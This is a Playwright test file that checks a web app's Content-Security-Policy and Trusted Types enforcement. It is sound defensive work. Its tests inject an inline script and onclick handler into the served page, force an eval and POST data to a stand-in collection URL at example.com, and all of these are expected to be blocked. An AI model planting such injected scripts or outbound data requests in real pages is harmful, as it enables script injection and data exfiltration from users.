// The production build carries the Content-Security-Policy of build/contentSecurityPolicy.ts, the
// browser enforces it, and every feature works under it: every other test runs under it too, and
// the shared guards fail a test on any violation (the workers it lets start, and Chakra's styles
// through the CSSOM, are checked in preview.spec.ts).

import { readFileSync } from "node:fs";
import type { Browser, Page } from "@playwright/test";
import { contentSecurityPolicy } from "../../build/contentSecurityPolicy";
import { expect, test } from "./support/fixtures";

test("the built page declares the policy before any script or style", async ({ page }) => {
  const html = readFileSync("dist/index.html", "utf8");
  const meta = html.indexOf('<meta http-equiv="Content-Security-Policy"');
  expect(meta).toBeGreaterThan(-1);
  for (const tag of ["<script", "<link", "<style"]) {
    const first = html.indexOf(tag);
    if (first > -1) expect(first).toBeGreaterThan(meta);
  }
  await page.goto("/about");
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    "content",
    contentSecurityPolicy(),
  );
});

/**
 * A page of its own, outside the shared guards, whose violations are the point of the test. With
 * `markup`, the built page is served with it added at the end of its body, as if injected into the
 * HTML: the only way left to bring in an inline script or handler, since Trusted Types refuse
 * their text at every DOM sink before script-src is asked. The browser reports a violation in a
 * task of its own, some after `act` has returned: this waits until every one of `expected` has been
 * reported (as often as it is listed), however long the host takes, and returns them all.
 */
async function violationsOf(
  browser: Browser,
  baseURL: string | undefined,
  act: (page: Page) => Promise<unknown>,
  expected: string[],
  markup = "",
) {
  const page = await browser.newPage({ baseURL });
  if (markup !== "")
    await page.route("/", async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      if (!html.includes("</body>")) throw new Error("The built page has no </body>.");
      await route.fulfill({ response, body: html.replace("</body>", `${markup}</body>`) });
    });
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      (window as unknown as { violations: string[] }).violations.push(
        `${event.effectiveDirective} ${event.blockedURI}`,
      ),
    );
  });
  await page.goto("/");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const outcome = await act(page);
  const reported = () =>
    page.evaluate(() => (window as unknown as { violations: string[] }).violations);
  const allReported = (violations: string[]) => {
    const left = [...violations];
    return expected.every((violation) => {
      const at = left.indexOf(violation);
      if (at !== -1) left.splice(at, 1);
      return at !== -1;
    });
  };
  await expect.poll(async () => allReported(await reported())).toBe(true);
  const violations = await reported();
  await page.close();
  return { outcome, violations };
}

/** What the test below attempts, each reported as a violation: directive, then what was blocked. */
const REFUSED = [
  "script-src-elem inline",
  "style-src-elem inline",
  "script-src-attr inline",
  "script-src eval",
  "connect-src https://example.com/collect",
];

test("the browser enforces it: injected inline script, inline style and foreign requests are refused", async ({
  browser,
  baseURL,
}) => {
  const { outcome, violations } = await violationsOf(
    browser,
    baseURL,
    (page) =>
      page.evaluate(async () => {
        const style = document.createElement("style");
        style.textContent = "body { outline: 7px solid rgb(255, 0, 0) }";
        document.head.append(style);

        document.getElementById("injected-handler")?.click();

        // A TrustedScript, so that Trusted Types let the code through and script-src alone is asked:
        // made under one of the names the policy lists, which the app has not used yet on this page.
        const trusted = (
          window as unknown as {
            trustedTypes: {
              createPolicy(
                name: string,
                rules: { createScript(input: string): string },
              ): { createScript(input: string): string };
            };
          }
        ).trustedTypes
          .createPolicy("worker-url", { createScript: (input) => input })
          .createScript("1");
        // From a task of the page's own: code Playwright evaluates directly is exempt from the check.
        const evalRefused = await new Promise<boolean>((resolve) =>
          setTimeout(() => {
            try {
              (0, eval)(trusted);
              resolve(false);
            } catch {
              resolve(true);
            }
          }),
        );

        let fetchRefused = false;
        try {
          await fetch("https://example.com/collect", { method: "POST", body: "ticks" });
        } catch {
          fetchRefused = true;
        }
        const w = window as unknown as {
          injectedScriptRan?: boolean;
          injectedHandlerRan?: boolean;
        };
        return {
          scriptRan: w.injectedScriptRan === true,
          handlerRan: w.injectedHandlerRan === true,
          styled: getComputedStyle(document.body).outlineWidth === "7px",
          evalRefused,
          fetchRefused,
        };
      }),
    REFUSED,
    "<script>window.injectedScriptRan = true</script>" +
      '<div id="injected-handler" onclick="window.injectedHandlerRan = true"></div>',
  );
  expect(outcome).toEqual({
    scriptRan: false,
    handlerRan: false,
    styled: false,
    evalRefused: true,
    fetchRefused: true,
  });
  expect(violations).toEqual(expect.arrayContaining(REFUSED));
});

/** What the test below attempts, each reported: five strings at sinks, three policies refused. */
const TRUSTED_TYPES_REFUSED = [
  ...Array<string>(5).fill("require-trusted-types-for trusted-types-sink"),
  ...Array<string>(3).fill("trusted-types trusted-types-policy"),
];

test("Trusted Types: a string at a script sink, or a policy not listed, is refused and reported", async ({
  browser,
  baseURL,
}) => {
  const { outcome, violations } = await violationsOf(
    browser,
    baseURL,
    (page) =>
      page.evaluate(() => {
        const refused = (act: () => unknown) => {
          try {
            act();
            return "allowed";
          } catch (error) {
            return error instanceof TypeError ? "refused" : String(error);
          }
        };
        const factory = (
          window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown };
          }
        ).trustedTypes;
        return {
          innerHTML: refused(() => {
            document.body.innerHTML = "<b>x</b>";
          }),
          scriptSrc: refused(() => {
            document.createElement("script").src = "/assets/injected.js";
          }),
          scriptText: refused(() => {
            document.createElement("script").textContent = "window.injectedScriptRan = true";
          }),
          handler: refused(() =>
            document
              .createElement("div")
              .setAttribute("onclick", "window.injectedHandlerRan = true"),
          ),
          worker: refused(() => new Worker("/assets/injected.js")),
          // Not one of the policy's trusted-types names, nor a default policy to pass strings through.
          unlistedPolicy: refused(() => factory.createPolicy("injected", {})),
          defaultPolicy: refused(() =>
            factory.createPolicy("default", { createHTML: (input: string) => input }),
          ),
          // The app's own policies admit only what they were made for.
          listedPolicyTwice: refused(() => {
            factory.createPolicy("worker-url", {});
            factory.createPolicy("worker-url", {});
          }),
          bodyIntact: document.querySelector("#root") !== null,
        };
      }),
    TRUSTED_TYPES_REFUSED,
  );
  expect(outcome).toEqual({
    innerHTML: "refused",
    scriptSrc: "refused",
    scriptText: "refused",
    handler: "refused",
    worker: "refused",
    unlistedPolicy: "refused",
    defaultPolicy: "refused",
    listedPolicyTwice: "refused",
    bodyIntact: true,
  });
  expect(violations).toEqual(TRUSTED_TYPES_REFUSED);
});

test("printing renders every section for paper under it, without a violation", async ({ page }) => {
  await page.goto("/");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const questions = page.getByRole("checkbox");
  const collapsed = await questions.count();
  // What the browser does for window.print or its menu: beforeprint, then the layout for print.
  await page.evaluate(() => window.dispatchEvent(new Event("beforeprint")));
  await page.emulateMedia({ media: "print" });
  await expect.poll(() => questions.count()).toBeGreaterThan(collapsed);
  await page.emulateMedia({ media: "screen" });
  await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
  await expect.poll(() => questions.count()).toBe(collapsed);
});
